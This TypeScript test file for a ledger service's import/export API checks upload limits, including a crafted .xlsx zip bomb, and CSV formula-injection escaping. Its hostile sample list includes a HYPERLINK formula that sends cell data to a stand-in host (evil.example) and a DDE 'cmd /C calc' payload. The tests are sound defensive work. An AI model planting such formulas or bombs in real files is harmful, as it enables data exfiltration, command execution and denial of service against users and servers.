import { deflatedZeros, unzipAll, writeZip } from "@taizhang/exchange/test-support";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { z } from "zod";
import { expectProblem } from "../test-support/responses.js";
import { asCaller, createTestApp, progressPath, testConfig, UNIT_A, type TestApp } from "../test-support/test-app.js";

/*
 * Issue 14: uploads that cost the server too much, and CSV cells a
 * spreadsheet would run. The heavy variants (a million rows, 1 GB bombs, in
 * parallel, against the built server) are in e2e/uploads.test.ts.
 */

const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const Preview = z.object({ summary: z.object({ rows: z.number(), changes: z.number(), unchanged: z.number(), rejected: z.number() }), rows: z.array(z.object({ changes: z.array(z.unknown()) })) });

let t: TestApp;
beforeEach(async () => {
  t = await createTestApp();
});
afterEach(() => t.close());

const post = (body: string | Uint8Array, type: string, query = "") =>
  t.app.request(`/api/imports/ledger${query}`, { method: "POST", headers: asCaller(t.tokens.admin, { "Content-Type": type }), body });
const exportCsv = async (query: string) => (await t.app.request(`/api/exports/ledger?${query}&format=csv`, { headers: asCaller(t.tokens.admin) })).text();

describe("upload limits (POST /api/imports/ledger)", () => {
  test("blank lines count toward the row limit: a header and 25,000 blank lines is 422 naming the limit (was 200)", async () => {
    const [header = ""] = (await exportCsv(`unitId=${encodeURIComponent(UNIT_A)}`)).split("\r\n");
    const problem = await expectProblem(await post(`${header}\r\n${"\r\n".repeat(25_000)}`, "text/csv"), "invalid-ledger-file");
    expect(problem).toMatchObject({ code: "too_large", limit: { name: "TAIZHANG_UPLOAD_MAX_ROWS", value: 20_000 } });
    expect(problem.detail).toContain("more than 20,000 rows");
  });

  test("the limits are settings: lower row or cell limits refuse smaller files", async () => {
    const defaults = testConfig().uploadLimits;
    await t.close();
    t = await createTestApp({ uploadLimits: { ...defaults, maxCells: 10 } });
    const csv = await exportCsv(`unitId=${encodeURIComponent(UNIT_A)}`);
    expect(await expectProblem(await post(csv, "text/csv"), "invalid-ledger-file")).toMatchObject({ code: "too_large", limit: { name: "TAIZHANG_UPLOAD_MAX_CELLS", value: 10 } });
    await t.close();
    t = await createTestApp({ uploadLimits: { ...defaults, maxRows: 5 } });
    expect(await expectProblem(await post(csv, "text/csv"), "invalid-ledger-file")).toMatchObject({ code: "too_large", limit: { name: "TAIZHANG_UPLOAD_MAX_ROWS", value: 5 } });
  });

  test("an .xlsx bomb is refused from its zip directory, naming the limit", async () => {
    const res = await t.app.request(`/api/exports/ledger?unitId=${encodeURIComponent(UNIT_A)}&format=xlsx`, { headers: asCaller(t.tokens.admin) });
    const entries = unzipAll(new Uint8Array(await res.arrayBuffer()));
    const bomb = writeZip([...entries, { name: "xl/media/image1.png", ...(await deflatedZeros(32 * 1024 * 1024)) }]);
    const problem = await expectProblem(await post(bomb, XLSX), "invalid-ledger-file");
    expect(problem).toMatchObject({ code: "too_large", limit: { name: "TAIZHANG_XLSX_MAX_RATIO", value: 100 } });
    const lying = writeZip([...entries, { name: "xl/media/image1.png", deflated: new Uint8Array(1000), size: 1000, declaredSize: 4_000_000_000 }]);
    expect(await expectProblem(await post(lying, XLSX), "invalid-ledger-file")).toMatchObject({ limit: { name: "TAIZHANG_XLSX_MAX_ENTRY_SIZE", value: 64 * 1024 * 1024 } });
  });

  test("what a parser says is logged, not echoed: the detail names the row and the kind of problem", async () => {
    const [header = "", first = ""] = (await exportCsv(`unitId=${encodeURIComponent(UNIT_A)}`)).split("\r\n");
    const res = await post(`${header}\r\n${first}\r\n"a "b" c",1\r\n`, "text/csv");
    const problem = await expectProblem(res, "invalid-ledger-file");
    expect(problem).toMatchObject({ code: "unreadable", detail: 'not valid CSV near row 3: a quote inside a cell is not doubled (write "" for a quote in a quoted cell)' });
    expect(problem.detail).not.toMatch(/Invalid Closing Quote|CSV_/);
    const logged = t.log.lines.find((l) => l.msg === "ledger file unreadable");
    expect(logged).toMatchObject({ requestId: problem.requestId, code: "unreadable", reason: expect.stringMatching(/Invalid Closing Quote/i) });

    const xlsx = await expectProblem(await post(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1, 2, 3, 4, 5, 6]), XLSX), "invalid-ledger-file");
    expect(xlsx.detail).toBe("not a readable .xlsx workbook: its zip structure is damaged");
  });
});

describe("CSV formula injection", () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=2+2"];

  test("notes and 责任人 that start with = + - @ TAB CR are exported with a leading ', and re-importing our own CSV changes nothing", async () => {
    const held = [...(await exportCsv(`unitId=${encodeURIComponent(UNIT_A)}`)).matchAll(/chengdu-2015\/(\d+)#(\w+),成都市:市政府法制办/g)];
    expect(held.length).toBeGreaterThanOrEqual(HOSTILE.length);
    for (const [i, note] of HOSTILE.entries()) {
      const [, number, item] = held[i] ?? [];
      const path = progressPath(UNIT_A, { planId: "chengdu-2015", number: Number(number), item: item ?? "" });
      const current = z.object({ version: z.number() }).parse(await (await t.app.request(path)).json());
      const res = await t.app.request(path, { method: "PATCH", headers: asCaller(t.tokens.admin, { "If-Match": `"${current.version}"` }), body: JSON.stringify({ note, responsiblePerson: { name: note, post: null, contact: null } }) });
      expect(res.status, await res.text()).toBe(200);
    }
    const csv = await exportCsv(`unitId=${encodeURIComponent(UNIT_A)}`);
    for (const note of HOSTILE) {
      expect(csv).toContain(note.includes('"') ? `"'${note.replaceAll('"', '""')}"` : `'${note}`);
      expect(csv).not.toMatch(new RegExp(`(^|,)${note.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}`, "m"));
    }
    const preview = Preview.parse(await (await post(csv, "text/csv")).json());
    expect(preview.summary).toMatchObject({ changes: 0, rejected: 0 });
  });

  test("the history CSV is guarded too", async () => {
    const { token } = await t.ledger.createToken({ name: "=HYPERLINK(1)", role: "admin", unitId: null });
    const res = await t.app.request(progressPath(UNIT_A), { method: "PATCH", headers: asCaller(token, { "If-Match": '"0"' }), body: JSON.stringify({ note: "x" }) });
    expect(res.status).toBe(200);
    const csv = await (await t.app.request(`/api/exports/ledger?unitId=${encodeURIComponent(UNIT_A)}&format=csv&history=only`, { headers: asCaller(t.tokens.admin) })).text();
    expect(csv).toContain("'=HYPERLINK(1)");
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
